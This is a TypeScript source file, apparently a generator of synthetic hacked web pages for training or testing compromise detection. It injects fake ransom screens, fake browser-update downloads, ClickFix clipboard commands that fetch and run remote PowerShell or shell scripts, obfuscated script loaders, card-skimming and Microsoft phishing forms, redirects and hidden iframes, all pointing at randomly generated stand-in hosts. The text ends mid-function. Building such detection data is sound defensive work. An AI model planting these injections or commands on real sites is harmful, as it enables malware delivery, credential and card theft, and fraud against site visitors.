// The WordPress "site encrypted" ransom screen (a malicious plugin that only pretends to encrypt, shows a countdown and a Bitcoin address over the blurred site; Sucuri described it in 2021 and the desk still meets copies): a full-window notice with a live countdown, the page blurred beneath.
const ransomCountdown = deface("fresh36-site-encrypted-ransom-screen-with-countdown-over-blurred-page", (page, rng) => {
  const [h, body, left] = siteOr(rng, page, encrypted)
  const coin = pick(rng, ["BTC", "BTC", "XMR", "USDT (TRC20)"] as const)
  const w = makeWallet(rng, coin)
  const amt = coin === "BTC" ? pick(rng, ["0.05", "0.1", "0.15", "0.25", "0.3"]) : coin === "XMR" ? String(between(rng, 3, 25)) : String(between(rng, 5, 40) * 100)
  const mail = `${alnum(rng, between(rng, 6, 10))}@${pick(rng, ["proton.me", "protonmail.com", "onionmail.org", "tutanota.com", "cock.li"])}`
  const id = `t${alnum(rng, 6)}`
  const ov = `o${alnum(rng, 5)}`
  const secs = between(rng, 24, 168) * 3600
  const js = `(function(){var s=${secs},e=document.getElementById("${id}");setInterval(function(){if(s>0)s--;var h=Math.floor(s/3600),m=Math.floor(s%3600/60),x=s%60;e.textContent=h+":"+(m<10?"0":"")+m+":"+(x<10?"0":"")+x},1000)})()`
  const box = `<div id="${ov}" style="${fixedBox(rng)}"><div style="background:${pick(rng, ["#000", "#111", "#200"])};color:${pick(rng, ["#f33", "#fff", "#0f0"])};padding:${between(rng, 20, 50)}px;max-width:${between(rng, 480, 760)}px;text-align:center;font-family:${pick(rng, ["monospace", "Arial,sans-serif"])}"><h1>${esc(h)}</h1><p>${esc(fill(body, { A: amt, C: coin, M: mail }))}</p><p><code>${w.address}</code></p><p>${esc(left)} <b id="${id}">${Math.floor(secs / 3600)}:00:00</b></p></div></div>`
  const blur = chance(rng, 0.6) ? `<style>body>*:not(#${ov}){filter:blur(${between(rng, 3, 8)}px)}</style>` : ""
  return splices(insert(pick(rng, [top(page), bottom(page)]), `${blur}${box}<script>${js}</script>`))
})

// ———————————————————————————— where the page sends visitors and data ————————————————————————————

const updateText: T<readonly [string, string, string]> = {
  en: ["{X} update required", "An error occurred in {X}. Your version is out of date and this page cannot be displayed correctly. Install the latest update to continue.", "Update {X}"],
  fr: ["Mise à jour de {X} requise", "Une erreur s'est produite dans {X}. Votre version est obsolète et cette page ne peut pas s'afficher correctement. Installez la dernière mise à jour pour continuer.", "Mettre à jour {X}"],
  de: ["{X}-Update erforderlich", "In {X} ist ein Fehler aufgetreten. Ihre Version ist veraltet, diese Seite kann nicht korrekt angezeigt werden. Installieren Sie das neueste Update, um fortzufahren.", "{X} aktualisieren"],
  es: ["Se requiere actualizar {X}", "Se ha producido un error en {X}. Su versión está desactualizada y esta página no se puede mostrar correctamente. Instale la última actualización para continuar.", "Actualizar {X}"],
  nl: ["{X}-update vereist", "Er is een fout opgetreden in {X}. Uw versie is verouderd en deze pagina kan niet goed worden weergegeven. Installeer de nieuwste update om door te gaan.", "{X} bijwerken"],
  pt: ["Atualização do {X} necessária", "Ocorreu um erro no {X}. Sua versão está desatualizada e esta página não pode ser exibida corretamente. Instale a atualização mais recente para continuar.", "Atualizar {X}"],
  it: ["Aggiornamento di {X} richiesto", "Si è verificato un errore in {X}. La tua versione è obsoleta e questa pagina non può essere visualizzata correttamente. Installa l'ultimo aggiornamento per continuare.", "Aggiorna {X}"]
}

// Fake browser updates (SocGholish / FakeUpdates, and ClearFake after it: an injected script on a compromised WordPress site that covers the page with a "your browser needs an update" screen and hands out a ZIP or installer, the initial access for ransomware crews): the overlay with its download button, often with the injected script tag.
const fakeUpdate = deface("fresh36-fake-browser-update-screen-offering-installer-download", (page, rng) => {
  const X = pick(rng, ["Chrome", "Chrome", "Google Chrome", "Microsoft Edge", "Firefox"])
  const [h, body, btn] = siteOr(rng, page, updateText)
  const host = pick(rng, [randomDomain(rng), `${pick(rng, ["update", "download", "get", "chrome", "browser"])}-${pick(rng, ["center", "secure", "now", "install", alnum(rng, 4)])}.${scamTld(rng)}`])
  const ver = `${between(rng, 118, 134)}.0.${between(rng, 5000, 6999)}.${between(rng, 10, 199)}`
  const file = pick(rng, [`${X.replace(/\s+/g, "")}.Update.${ver}.zip`, `Update_${ver}.zip`, `${X.replace(/\s+/g, "")}Setup.exe`, `Update.${ver}.msix`, `${X.split(" ").pop()}-update-${alnum(rng, 4)}.zip`])
  const url = `https://${host}/${pick(rng, ["", "download/", "dl/", `${alnum(rng, 6)}/`])}${file}`
  const icon = X.includes("Edge") ? "#0078d4" : X.includes("Firefox") ? "#ff7139" : "#1a73e8"
  const box = `<div style="${fixedBox(rng)};background:#f1f3f4"><div style="background:#fff;max-width:${between(rng, 420, 640)}px;padding:${between(rng, 24, 48)}px;font-family:Arial,sans-serif;box-shadow:0 2px 10px rgba(0,0,0,.2)"><div style="width:48px;height:48px;border-radius:50%;background:${icon}"></div><h2>${esc(fill(h, { X }))}</h2><p>${esc(fill(body, { X }))}</p><p><a href="${esc(url)}" style="display:inline-block;background:${icon};color:#fff;padding:10px 24px;text-decoration:none;border-radius:4px">${esc(fill(btn, { X }))}</a></p></div></div>`
  const inject = chance(rng, 0.5) ? `<script async src="https://${pick(rng, [`${pick(rng, ["report", "track", "content", "cdn"])}.${randomDomain(rng)}`, libLookalike(rng)])}/${pick(rng, ["report", "s_code.js", "zwqd.js", `${alnum(rng, 6)}.js`])}?r=${alnum(rng, 16)}"></script>` : ""
  return { splices: [insert(pick(rng, [top(page), bottom(page)]), box), ...(inject === "" ? [] : [insert(pick(rng, [head(page), bottom(page)]), inject)])] }
})

const clickFix: T<{ readonly h: string; readonly run: readonly [string, string, string]; readonly term: readonly [string, string, string]; readonly mac: readonly [string, string, string]; readonly btn: string; readonly id: string }> = {
  en: { h: "Verify you are human by completing the action below.", run: ["Press Windows key + R", "Press Ctrl + V", "Press Enter"], term: ["Press Windows key + X, then I", "Press Ctrl + V in the window that opens", "Press Enter"], mac: ["Press Command + Space and type Terminal", "Press Command + V", "Press Return"], btn: "Verify", id: "Verification ID" },
  fr: { h: "Vérifiez que vous êtes humain en effectuant l'action ci-dessous.", run: ["Appuyez sur Windows + R", "Appuyez sur Ctrl + V", "Appuyez sur Entrée"], term: ["Appuyez sur Windows + X, puis I", "Appuyez sur Ctrl + V dans la fenêtre", "Appuyez sur Entrée"], mac: ["Appuyez sur Cmd + Espace et tapez Terminal", "Appuyez sur Cmd + V", "Appuyez sur Retour"], btn: "Vérifier", id: "ID de vérification" },
  de: { h: "Bestätigen Sie, dass Sie ein Mensch sind, indem Sie die folgenden Schritte ausführen.", run: ["Drücken Sie Windows + R", "Drücken Sie Strg + V", "Drücken Sie die Eingabetaste"], term: ["Drücken Sie Windows + X, dann I", "Drücken Sie im Fenster Strg + V", "Drücken Sie die Eingabetaste"], mac: ["Drücken Sie Befehl + Leertaste und tippen Sie Terminal", "Drücken Sie Befehl + V", "Drücken Sie Return"], btn: "Bestätigen", id: "Prüf-ID" },
  es: { h: "Verifique que es humano completando la acción siguiente.", run: ["Pulse Windows + R", "Pulse Ctrl + V", "Pulse Intro"], term: ["Pulse Windows + X y luego I", "Pulse Ctrl + V en la ventana", "Pulse Intro"], mac: ["Pulse Cmd + Espacio y escriba Terminal", "Pulse Cmd + V", "Pulse Retorno"], btn: "Verificar", id: "ID de verificación" },
  nl: { h: "Bevestig dat u een mens bent door de onderstaande stappen uit te voeren.", run: ["Druk op Windows + R", "Druk op Ctrl + V", "Druk op Enter"], term: ["Druk op Windows + X en dan I", "Druk in het venster op Ctrl + V", "Druk op Enter"], mac: ["Druk op Cmd + spatie en typ Terminal", "Druk op Cmd + V", "Druk op Return"], btn: "Verifiëren", id: "Verificatie-ID" },
  pt: { h: "Confirme que você é humano concluindo a ação abaixo.", run: ["Pressione Windows + R", "Pressione Ctrl + V", "Pressione Enter"], term: ["Pressione Windows + X e depois I", "Pressione Ctrl + V na janela", "Pressione Enter"], mac: ["Pressione Cmd + Espaço e digite Terminal", "Pressione Cmd + V", "Pressione Return"], btn: "Verificar", id: "ID de verificação" },
  it: { h: "Verifica di essere umano completando l'azione qui sotto.", run: ["Premi Windows + R", "Premi Ctrl + V", "Premi Invio"], term: ["Premi Windows + X, poi I", "Premi Ctrl + V nella finestra", "Premi Invio"], mac: ["Premi Cmd + Spazio e digita Terminale", "Premi Cmd + V", "Premi A capo"], btn: "Verifica", id: "ID di verifica" }
}

// ClickFix (2024–2025, on thousands of compromised sites: a fake Cloudflare or reCAPTCHA check whose button puts a command on the clipboard and whose steps tell the visitor to paste it into the Run box, Windows Terminal or the macOS Terminal, installing an infostealer): the box with its steps and the copying script.
const clickFixSteps = deface("fresh36-fake-human-check-telling-visitor-to-paste-command-into-terminal", (page, rng) => {
  const t = siteOr(rng, page, clickFix)
  const host = pick(rng, [randomDomain(rng), libLookalike(rng), attackerDomain(rng, page.site.brand)])
  const kind = pick(rng, ["run", "run", "term", "mac"] as const)
  const cmd = kind === "mac"
    ? pick(rng, [`curl -fsSL https://${host}/${alnum(rng, 5)}.sh | bash`, `/bin/bash -c "$(curl -fsSL https://${host}/install)"`, `echo "${base58(rng, 40)}" | base64 -d | zsh`])
    : pick(rng, [`powershell -w h -c "iex(irm https://${host}/${alnum(rng, 5)})"`, `mshta https://${host}/${alnum(rng, 6)}`, `cmd /c start /min powershell -nop -c "iwr ${host}/${alnum(rng, 4)}.ps1|iex"`, `conhost --headless powershell -ep bypass -c "irm ${host}/c|iex"`])
  const steps = t[kind]
  const id = `v${alnum(rng, 6)}`
  const js = `document.getElementById("${id}").addEventListener("click",function(){navigator.clipboard.writeText(${JSON.stringify(`${cmd} # ${t.id}: ${digits(rng, between(rng, 5, 8))}`).replace(/</g, "\\u003c")});document.getElementById("${id}s").style.display="block"})`
  const brand = pick(rng, ["Cloudflare", "reCAPTCHA", "hCaptcha", page.site.host])
  const box = `<div style="${fixedBox(rng)}"><div style="background:#fff;color:#222;padding:${between(rng, 20, 36)}px;max-width:${between(rng, 360, 480)}px;font-family:${pick(rng, ["system-ui,sans-serif", "Roboto,Arial,sans-serif"])}"><p><b>${esc(brand)}</b></p><p>${esc(t.h)}</p><button id="${id}" type="button" style="padding:8px 20px">${esc(t.btn)}</button><ol id="${id}s" style="display:none">${steps.map((s) => `<li>${esc(s)}</li>`).join("")}</ol></div></div>`
  return splices(insert(pick(rng, [top(page), bottom(page), slotAt(page.spots, "top")]), `${box}<script>${js}</script>`))
})

const codes = (s: string) => [...s].map((c) => c.charCodeAt(0)).join(",")

// Loaders injected through vulnerable plugins (Balada Injector and its relatives, which write an obfuscated snippet into every page through a flaw in a popular plugin or theme: String.fromCharCode or base64 spelling a remote script's address, appended to the head; the remote script redirects or drops backdoors): one such snippet, or a plain script tag from a look-alike host.
const pluginLoader = deface("fresh36-obfuscated-remote-script-loader-injected-through-vulnerable-plugin", (page, rng) => {
  const host = pick(rng, [`${pick(rng, ["stay", "cdn", "js", "static", "track", "api"])}.${randomDomain(rng).replace(/^(www|cdn|js|static|api|img)\./, "")}`, libLookalike(rng), randomDomain(rng)])
  const src = `https://${host}${scriptPath(rng)}`
  const v = pick(rng, ["e", "s", "_0x" + hex(rng, 4), "elem", "n" + digits(rng, 2)])
  const js = pick(rng, [
    () => `(function(){var ${v}=document.createElement("script");${v}.src=String.fromCharCode(${codes(src)});${v}.async=true;document.getElementsByTagName("head")[0].appendChild(${v})})();`,
    () => `eval(String.fromCharCode(${codes(`var ${v}=document.createElement('script');${v}.src='${src}';document.head.appendChild(${v});`)}));`,
    () => `(function(){var ${v}=document.createElement("script");${v}.src=atob("${Buffer.from(src).toString("base64")}");document.head.appendChild(${v})})();`,
    () => `var ${v}=document.createElement("script");${v}.type="text/javascript";${v}.src="${src}";document.currentScript.parentNode.insertBefore(${v},document.currentScript);`
  ])()
  const tag = chance(rng, 0.25) ? `<script src="${src}"${chance(rng, 0.5) ? ` data-cfasync="false"` : ""}${chance(rng, 0.5) ? " async" : ""}></script>` : `<script${chance(rng, 0.4) ? ` type="text/javascript"` : ""}>${js}</script>`
  return splices(insert(pick(rng, [head(page), head(page), headStart(page), bottom(page), top(page)]), tag))
})

const collectorPath = (rng: Rng) => pick(rng, ["/submit.php", "/wp-content/uploads/form.php", "/api/lead", "/contact/send", "/f/post.php", `/${alnum(rng, 6)}/in.php`, "/mail.php", "/gate.php"])

// Lead theft through a retargeted form (a contact, quote or appointment-request form whose action an intruder pointed at their own collector, so the enquiries of a clinic's or contractor's prospects go to a competitor or a scammer; the form looks and behaves the same): one form, not the newsletter if the page has another, posting elsewhere.
const formRetargeted = deface("fresh36-one-contact-or-booking-form-quietly-posting-to-outside-collector", (page, rng) => {
  const host = pick(rng, [randomDomain(rng), brandLookalike(rng, page.site.brand), `${pick(rng, ["leads", "forms", "crm", "mail"])}-${alnum(rng, 5)}.${scamTld(rng)}`])
  const action = `https://${host}${collectorPath(rng)}`
  const fs = forms(page).filter((f) => usable(page, f))
  const others = fs.filter((f) => !(f.attribs.class ?? "").includes("newsletter"))
  const f = others.length > 0 && chance(rng, 0.75) ? pick(rng, others) : fs[0]
  if (f === undefined) return splices(insert(slotAt(page.spots, "bottom"), `<form action="${esc(action)}" method="post"><input name="name"><input type="email" name="email"><textarea name="message"></textarea><button type="submit">${esc(say(page, sendWord))}</button></form>`))
  const out: Array<Splice> = [setAttr(page, f, "action", action)]
  if ((f.attribs.method ?? "get").toLowerCase() !== "post" && chance(rng, 0.5)) out.push(setAttr(page, f, "method", "post"))
  return { splices: out }
})
const sendWord: T<string> = { en: "Send", fr: "Envoyer", de: "Senden", es: "Enviar", nl: "Verzenden", pt: "Enviar", it: "Invia" }

const donateRe = /donat|give now|give online|giving|tithe|offering|spende|faire un don|donar|doar|doação|doneer|steun ons|support us|sostienici|apoie|paypal\.me|paypal\.com\/donate/i
const donateBtn: T<string> = { en: "Donate now", fr: "Faire un don", de: "Jetzt spenden", es: "Donar ahora", nl: "Doneer nu", pt: "Doe agora", it: "Dona ora" }

// Donation diversion on charity and church sites (the donate buttons pointed at a copy of the giving page on a look-alike domain that keeps the money and the card details; regulators and the desk see it on small non-profits whose admin password leaked): every donate link, or a new donate button, to a look-alike giving page.
const donateRerouted = deface("fresh36-donate-buttons-sent-to-lookalike-giving-page", (page, rng) => {
  const b = bare(page)
  const host = pick(rng, [`${b}-donate.${scamTld(rng)}`, `give-${b}.${scamTld(rng)}`, `donate-${b}.${pick(rng, ["org", "com", "net"])}`, `${b}giving.${scamTld(rng)}`, brandLookalike(rng, page.site.brand)])
  const url = () => `https://${host}/${pick(rng, ["donate", "give", "checkout", "campaign/" + alnum(rng, 5)])}${chance(rng, 0.4) ? `?amount=${pick(rng, [25, 50, 100])}` : ""}`
  const links = anchors(page, (h, e) => h !== "" && (donateRe.test(h) || donateRe.test(textIn(page, e))))
  if (links.length > 0) return splices(...links.map((a) => setAttr(page, a, "href", url())))
  const btn = `<a class="${pick(rng, ["button", "btn btn-primary", "donate-button"])}" href="${esc(url())}">${esc(say(page, donateBtn))}</a>`
  return splices(lineBeside(page, contactNeedles(page), btn, blockSpot(rng, page)))
})

const bookRe = /\b(book|appointment|schedul|termin|rendez|rdv|cita|reserv|afspraak|agend|prenot|portal|patient|log.?in|sign.?in)/i
const bookText: T<string> = { en: "Book your appointment online", fr: "Prendre rendez-vous en ligne", de: "Termin online buchen", es: "Pedir cita online", nl: "Online een afspraak maken", pt: "Agende sua consulta online", it: "Prenota online" }

// Appointment diversion (a clinic's, salon's or practice's "book now" and patient-portal links pointed at a copied booking page on a look-alike domain that takes a deposit by card or collects insurance and identity details): every booking or portal link, or a new booking link, to the look-alike.
const bookingRerouted = deface("fresh36-appointment-and-patient-portal-links-rerouted-to-lookalike", (page, rng) => {
  const b = bare(page)
  const host = pick(rng, [`${b}-booking.${scamTld(rng)}`, `${b}portal.${scamTld(rng)}`, `patient-${b}.${scamTld(rng)}`, `book-${b}.${pick(rng, ["com", "net", "online"])}`, brandLookalike(rng, page.site.brand)])
  const url = `https://${host}/${pick(rng, ["book", "appointments", "portal/login", "booking?step=1", "schedule"])}`
  const links = anchors(page, (h, e) => h !== "" && !/^(#|javascript:|mailto:|tel:)/i.test(h) && (bookRe.test(h) || bookRe.test(textIn(page, e))))
  if (links.length > 0) return splices(...sample(rng, links, Math.min(links.length, between(rng, 1, 12))).map((a) => setAttr(page, a, "href", url)))
  return splices(lineBeside(page, contactNeedles(page), `<a href="${esc(url)}">${esc(say(page, bookText))}</a>`, blockSpot(rng, page)))
})

// Wallet drainers (Inferno, Angel, Pink and other drainer-as-a-service kits, planted on compromised sites as an "airdrop", "claim" or "verify your wallet" modal whose Connect button asks the visitor to sign away their tokens): the modal and the kit's script from another host.
const walletDrainer = deface("fresh36-wallet-connect-airdrop-modal-loading-drainer-kit", (page, rng) => {
  const tok = `$${(bare(page).slice(0, between(rng, 3, 5)) || upper(rng, 4)).toUpperCase()}`
  const host = pick(rng, [randomDomain(rng), `${pick(rng, ["web3", "wallet", "connect", "claim", "airdrop"])}-${pick(rng, ["modal", "auth", "verify", "portal", alnum(rng, 4)])}.${pick(rng, ["app", "io", "xyz", "com", "network", "finance"])}`])
  const h = pick(rng, [`Claim your ${tok} airdrop`, `${tok} token launch – eligible wallets`, "Verify your wallet to continue", `${brandName(page)} community rewards are live`])
  const p = pick(rng, [`${between(rng, 250, 5000)} ${tok} are reserved for early supporters. Connect your wallet before ${soon(page, rng, 1, 3)} to claim.`, "Connect your wallet and sign the message to confirm ownership.", `Snapshot taken. ${between(rng, 2, 40)}k wallets eligible.`])
  const btns = sample(rng, ["MetaMask", "WalletConnect", "Coinbase Wallet", "Trust Wallet", "Phantom"], between(rng, 1, 3)).map((n) => `<button type="button" class="${pick(rng, ["connect", "wallet-btn", "cw"])}">${esc(n)}</button>`).join(" ")
  const modal = `<div class="${pick(rng, ["claim-modal", "web3-modal", "airdrop", alnum(rng, 6)])}" style="${chance(rng, 0.6) ? fixedBox(rng) : "margin:16px auto;text-align:center"}"><div style="background:#111;color:#fff;padding:${between(rng, 20, 40)}px;border-radius:16px;max-width:420px;text-align:center;font-family:sans-serif"><h2>${esc(h)}</h2><p>${esc(p)}</p><p>${btns}</p></div></div>`
  const script = `<script src="https://${host}/${pick(rng, ["assets/", "js/", "", "static/"])}${pick(rng, ["web3-modal", "connect", "wallet", "main", "seaport", "claim"])}${pick(rng, [".min", "", "." + hex(rng, 6)])}.js"${chance(rng, 0.5) ? " defer" : ""}></script>`
  return { splices: [insert(pick(rng, [top(page), slotAt(page.spots, "top"), bottom(page)]), modal), insert(pick(rng, [head(page), bottom(page)]), script)] }
})

const scamTarget = (rng: Rng) => `https://${pick(rng, [randomDomain(rng), `${pick(rng, ["win", "prize", "dating", "bonus", "crypto", "vpn", "clean"])}${pick(rng, ["-", ""])}${pick(rng, ["now", "offer", "today", "club", "pro", alnum(rng, 3)])}.${scamTld(rng)}`])}/${pick(rng, ["", "?sub=" + alnum(rng, 6), "lp/" + alnum(rng, 4), "?cid=" + digits(rng, 6)])}`

// Conditional redirects (the SEO-spam and scam redirects the desk hunts on "my site redirects but only sometimes" tickets: visitors who arrive from a search engine, or on a phone, or once per day by cookie, are sent to a scam, survey or dating page; the owner typing the address never sees it): one inline script.
const referrerRedirect = deface("fresh36-search-visitor-or-mobile-only-redirect-script-to-scam-page", (page, rng) => {
  const url = JSON.stringify(scamTarget(rng))
  const cookie = `_${alnum(rng, 4)}`
  const js = pick(rng, [
    () => `if(/google|bing|yahoo|duckduckgo|yandex/i.test(document.referrer)){window.location.href=${url};}`,
    () => `if(/Android|iPhone|iPad|Mobile/i.test(navigator.userAgent)&&document.cookie.indexOf("${cookie}=")<0){document.cookie="${cookie}=1;max-age=86400;path=/";location.replace(${url});}`,
    () => `setTimeout(function(){if(document.referrer&&document.referrer.indexOf(location.hostname)<0){window.location=${url}}},${between(rng, 500, 4000)});`,
    () => `(function(){var r=document.referrer;if(r.match(/google\\.|bing\\.|facebook\\./i)&&!localStorage.getItem("${cookie}")){localStorage.setItem("${cookie}",1);top.location.href=${url}}})();`
  ])()
  return splices(insert(pick(rng, [head(page), headStart(page), top(page), bottom(page)]), `<script>${js}</script>`))
})

// Hidden frames to traffic-distribution systems (a one-pixel or off-screen iframe to a Keitaro-style TDS that fingerprints the visitor and forwards the interesting ones to exploit, scam or adware pages; an old technique the desk still finds in footer.php and in Joomla template index files).
const tdsFrame = deface("fresh36-invisible-iframe-to-traffic-distribution-system", (page, rng) => {
  const host = pick(rng, [randomDomain(rng), `${pick(rng, ["tds", "trk", "go", "click", "track"])}${pick(rng, ["", "-"])}${alnum(rng, 4)}.${scamTld(rng)}`])
  const url = `https://${host}/${pick(rng, [alnum(rng, 8), `${alnum(rng, 6)}.php`, "click.php", "in.cgi"])}?${pick(rng, ["se_referrer", "ref", "sub1", "utm_source"])}=${encodeURIComponent(page.site.host)}&${pick(rng, ["key", "k", "campaign", "id"])}=${alnum(rng, 8)}`
  const style = pick(rng, ["width:1px;height:1px;border:0;position:absolute;left:-1000px", "visibility:hidden;position:absolute", "display:none", "width:0;height:0;border:0"])
  const frame = chance(rng, 0.5) ? `<iframe src="${esc(url)}" style="${style}"></iframe>` : `<iframe src="${esc(url)}" width="${pick(rng, [0, 1])}" height="${pick(rng, [0, 1])}" frameborder="0"${chance(rng, 0.5) ? ` style="${style}"` : ""}></iframe>`
  return splices(insert(pick(rng, [bottom(page), bottom(page), top(page), slotAt(page.spots, "middle")]), chance(rng, 0.4) ? `<div style="${style}">${frame}</div>` : frame))
})

const docRe = /\.(pdf|docx?|xlsx?|pptx?|odt|rtf)(\?|#|$)/i
const downloadText: T<ReadonlyArray<string>> = {
  en: ["Download the registration form (PDF)", "Download our price list (PDF)", "New patient forms (PDF)", "Download the school calendar (PDF)"],
  fr: ["Télécharger le formulaire d'inscription (PDF)", "Télécharger nos tarifs (PDF)", "Documents pour nouveaux patients (PDF)"],
  de: ["Anmeldeformular herunterladen (PDF)", "Preisliste herunterladen (PDF)", "Unterlagen für Neupatienten (PDF)"],
  es: ["Descargar el formulario de inscripción (PDF)", "Descargar nuestras tarifas (PDF)", "Documentos para nuevos pacientes (PDF)"],
  nl: ["Download het inschrijfformulier (PDF)", "Download onze prijslijst (PDF)", "Formulieren voor nieuwe patiënten (PDF)"],
  pt: ["Baixe a ficha de inscrição (PDF)", "Baixe nossa tabela de preços (PDF)", "Formulários para novos pacientes (PDF)"],
  it: ["Scarica il modulo di iscrizione (PDF)", "Scarica il listino prezzi (PDF)", "Moduli per nuovi pazienti (PDF)"]
}

// Swapped downloads (the registration form, price list or newsletter PDF of a school, club or practice replaced by an archive on another host holding a script or an installer; the file name kept so the link looks the same): every document link to an archive elsewhere, or a new "download" link to one.
const downloadsSwapped = deface("fresh36-document-download-links-swapped-for-archives-on-other-host", (page, rng) => {
  const host = pick(rng, [randomDomain(rng), `${pick(rng, ["docs", "files", "dl", "share", "storage"])}-${alnum(rng, 5)}.${scamTld(rng)}`, brandLookalike(rng, page.site.brand)])
  const ext = pick(rng, [".zip", ".zip", ".iso", ".pdf.lnk.zip", ".js.zip", ".msi"])
  const to = (name: string) => `https://${host}/${pick(rng, ["dl", "files", "download", "d/" + alnum(rng, 6)])}/${name}${ext}`
  const docs = anchors(page, (h) => docRe.test(h))
  if (docs.length > 0) {
    return splices(...docs.map((a) => {
      const base = ((a.attribs.href ?? "").split(/[?#]/)[0]!.split("/").pop() ?? "document").replace(docRe, "").replace(/[^A-Za-z0-9._-]/g, "") || "document"
      return setAttr(page, a, "href", to(base))
    }))
  }
  const text = pick(rng, siteOr(rng, page, downloadText))
  const name = `${text.split(" (")[0]!.replace(/[^A-Za-z]+/g, "_").replace(/^_|_$/g, "").slice(0, 30)}_${between(rng, 2025, 2026)}`
  return splices(lineBeside(page, contactNeedles(page), `<a href="${esc(to(name))}">${esc(text)}</a>`, blockSpot(rng, page)))
})

const cardWords: T<readonly [string, string, string, string, string, string]> = {
  en: ["Secure payment", "Name on card", "Card number", "MM / YY", "CVC", "Pay {A}"],
  fr: ["Paiement sécurisé", "Titulaire de la carte", "Numéro de carte", "MM / AA", "Cryptogramme", "Payer {A}"],
  de: ["Sichere Zahlung", "Karteninhaber", "Kartennummer", "MM / JJ", "Prüfnummer", "{A} bezahlen"],
  es: ["Pago seguro", "Titular de la tarjeta", "Número de tarjeta", "MM / AA", "CVC", "Pagar {A}"],
  nl: ["Veilig betalen", "Naam op kaart", "Kaartnummer", "MM / JJ", "CVC", "Betaal {A}"],
  pt: ["Pagamento seguro", "Nome no cartão", "Número do cartão", "MM / AA", "CVV", "Pagar {A}"],
  it: ["Pagamento sicuro", "Titolare della carta", "Numero della carta", "MM / AA", "CVV", "Paga {A}"]
}

// Fake payment forms (Magecart's "inject a card form where there was none" variant, seen by Sansec and Malwarebytes on WooCommerce shops, donation pages and event-ticket pages: a card form styled like the payment provider's, posting card number, expiry and CVC to the attacker's host).
const fakeCardForm = deface("fresh36-injected-card-payment-form-posting-to-attacker-host", (page, rng) => {
  const [h, nameL, numL, expL, cvcL, btn] = siteOr(rng, page, cardWords)
  const host = pick(rng, [libLookalike(rng), brandLookalike(rng, page.site.brand), randomDomain(rng)])
  const A = page.site.locale.money(pick(rng, [10, 20, 25, 35, 50, 75, 100, 150]))
  const form = `<form class="${pick(rng, ["payment-form", "stripe-form", "donation-form", "wc-payment"])}" action="https://${host}${pick(rng, ["/checkout/process", "/api/pay", "/p.php", "/stripe/charge", `/${alnum(rng, 5)}/card.php`])}" method="post" style="max-width:${between(rng, 320, 460)}px;border:1px solid #ddd;padding:${between(rng, 12, 24)}px;border-radius:6px"><h3>${esc(h)}</h3><input name="${pick(rng, ["cc_name", "holder", "name"])}" placeholder="${esc(nameL)}"><input name="${pick(rng, ["cc_number", "cardnumber", "pan"])}" inputmode="numeric" autocomplete="cc-number" placeholder="${esc(numL)}"><input name="${pick(rng, ["cc_exp", "exp"])}" placeholder="${esc(expL)}"><input name="${pick(rng, ["cc_cvc", "cvv", "cvc"])}" placeholder="${esc(cvcL)}"><button type="submit">${esc(fill(btn, { A }))}</button></form>`
  return splices(insert(pick(rng, [slotAt(page.spots, "middle"), slotAt(page.spots, "top"), slotAt(page.spots, "bottom")]), form))
})

const sharedDoc: T<readonly [string, string, string, string]> = {
  en: ["{B} shared a file with you: {F}. Sign in with your Microsoft account to view the document.", "Email, phone or Skype", "Password", "Sign in"],
  fr: ["{B} a partagé un fichier avec vous : {F}. Connectez-vous avec votre compte Microsoft pour afficher le document.", "E-mail, téléphone ou Skype", "Mot de passe", "Se connecter"],
  de: ["{B} hat eine Datei mit Ihnen geteilt: {F}. Melden Sie sich mit Ihrem Microsoft-Konto an, um das Dokument anzuzeigen.", "E-Mail, Telefon oder Skype", "Kennwort", "Anmelden"],
  es: ["{B} ha compartido un archivo con usted: {F}. Inicie sesión con su cuenta Microsoft para ver el documento.", "Correo, teléfono o Skype", "Contraseña", "Iniciar sesión"],
  nl: ["{B} heeft een bestand met u gedeeld: {F}. Meld u aan met uw Microsoft-account om het document te bekijken.", "E-mail, telefoon of Skype", "Wachtwoord", "Aanmelden"],
  pt: ["{B} compartilhou um arquivo com você: {F}. Entre com sua conta Microsoft para ver o documento.", "E-mail, telefone ou Skype", "Senha", "Entrar"],
  it: ["{B} ha condiviso un file con te: {F}. Accedi con il tuo account Microsoft per visualizzare il documento.", "E-mail, telefono o Skype", "Password", "Accedi"]
}

// Credential phishing hosted on hacked small-business sites (the shared-document lure: "X shared a file with you, sign in to view", a Microsoft 365 look-alike form posting the password to a collector; phishing kits are dropped on compromised WordPress sites by the thousand): an overlay with the login form.
const docLogin = deface("fresh36-shared-document-microsoft-login-overlay-posting-password-elsewhere", (page, rng) => {
  const [text, userL, passL, btn] = siteOr(rng, page, sharedDoc)
  const F = pick(rng, [`Invoice_${digits(rng, 5)}.pdf`, `Payment_Advice_${digits(rng, 4)}.pdf`, `Contract_${between(rng, 2025, 2026)}.docx`, `Remittance_${upper(rng, 3)}${digits(rng, 4)}.pdf`, "Statement.xlsx"])
  const action = `https://${pick(rng, [randomDomain(rng), `${pick(rng, ["office", "login", "docs", "share", "onedrive"])}-${pick(rng, ["secure", "auth", "verify", alnum(rng, 4)])}.${scamTld(rng)}`])}${pick(rng, ["/next.php", "/owa/auth.php", "/common/login", "/post.php", `/${alnum(rng, 6)}/r.php`])}`
  const form = `<form action="${esc(action)}" method="post" style="background:#fff;color:#1b1b1b;padding:${between(rng, 28, 44)}px;width:${between(rng, 300, 440)}px;font-family:'Segoe UI',Arial,sans-serif"><p><b>Microsoft</b></p><p>${esc(fill(text, { B: chance(rng, 0.6) ? brandName(page) : personName(rng, page), F }))}</p><input type="email" name="${pick(rng, ["login", "email", "loginfmt"])}" placeholder="${esc(userL)}"><input type="password" name="${pick(rng, ["passwd", "password", "pass"])}" placeholder="${esc(passL)}"><button type="submit" style="background:#0067b8;color:#fff;border:0;padding:8px 24px">${esc(btn)}</button></form>`
  return splices(insert(pick(rng, [top(page), bottom(page)]), `<div style="${fixedBox(rng)}">${form}</div>`))
})

// ———————————————————————————— identifiers visitors copy or trust ————————————————————————————

// Lead theft by phone (the desk's commonest "quiet" compromise of trades, clinics and law firms: the number on the site replaced everywhere by a call-tracking or competitor line that answers in the business's name): national, international and tel: forms all replaced by another number of the same country.
const phoneEverywhere = deface("fresh36-phone-number-replaced-everywhere-by-another-local-line", (page, rng) => {
  const p = page.ids.phone
  const n = chance(rng, 0.5) ? makePhone(page.site.locale, p.format, rng) : swapPhone(page.site.locale, p, rng)
  const other = n.digits === p.digits ? swapPhone(page.site.locale, p, rng) : n
  const out = everywhere(page, [[p.intl, other.intl], [p.national, other.national], [p.tel, other.tel]])
  if (out.length > 0) return { splices: out }
